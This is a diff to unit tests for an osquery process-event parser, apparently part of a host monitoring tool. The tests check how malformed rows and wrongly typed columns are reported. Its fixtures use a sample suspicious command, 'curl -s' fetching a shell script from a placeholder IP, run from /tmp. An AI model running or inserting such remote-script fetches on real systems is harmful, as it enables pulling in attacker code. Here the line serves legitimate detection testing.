@@ -96,16 +96,35 @@ describe('osquery parser', () => {
     expect(run(parser(), lines)).toEqual({ events: [], malformed: [] });
   });
 
-  it('reports wrong types and non-osquery objects', () => {
+  it('reports rows whose command, time or host cannot be read, and non-osquery objects', () => {
     const lines = [
-      JSON.stringify({ ...eventLine, columns: { ...row, pid: 'abc' } }),
+      JSON.stringify({ ...eventLine, hostIdentifier: 7 }),
       JSON.stringify({ ...eventLine, columns: 'x' }),
       JSON.stringify({ ...eventLine, columns: { ...row, time: 'soon' }, unixTime: undefined }),
       JSON.stringify({ something: 'else' }),
       '{"name":"process_events","columns":{"cmdline":"curl',
+      // An unreadable command is never taken for a row about no process.
+      JSON.stringify({ ...eventLine, columns: { ...row, cmdline: ['curl'], path: { p: '/usr/bin/curl' } } }),
     ];
     const { events, malformed } = run(parser(), lines);
     expect(events).toEqual([]);
-    expect(malformed.map((m) => m.reason)).toEqual(['bad_json', 'bad_json', 'bad_json', 'bad_json', 'truncated']);
+    expect(malformed.map((m) => m.reason)).toEqual(['bad_json', 'bad_json', 'bad_json', 'bad_json', 'truncated', 'bad_json']);
+  });
+
+  it('keeps a row with an optional column of the wrong type, left out, and counts it as bad_field', () => {
+    const lines = [
+      JSON.stringify({ ...eventLine, columns: { ...row, pid: 'abc', auid: 1.5, cwd: false } }),
+      JSON.stringify({ ...eventLine, columns: { ...row, time: 'soon' } }),
+    ];
+    const { events, malformed } = run(parser(), lines);
+    expect(events.map((e) => [e.command, e.pid, e.user, e.cwd])).toEqual([
+      ['curl -s http://203.0.113.9/x.sh', null, null, null],
+      ['curl -s http://203.0.113.9/x.sh', 31337, 'alice', '/tmp'],
+    ]);
+    expect(events[1]!.time).toEqual(new Date(eventLine.unixTime * 1000));
+    expect(malformed.map((m) => [m.reason, m.detail])).toEqual([
+      ['bad_field', 'kept without: pid must be an integer; auid must be an integer; cwd must be a string'],
+      ['bad_field', 'kept without: time must be epoch seconds'],
+    ]);
   });
 });
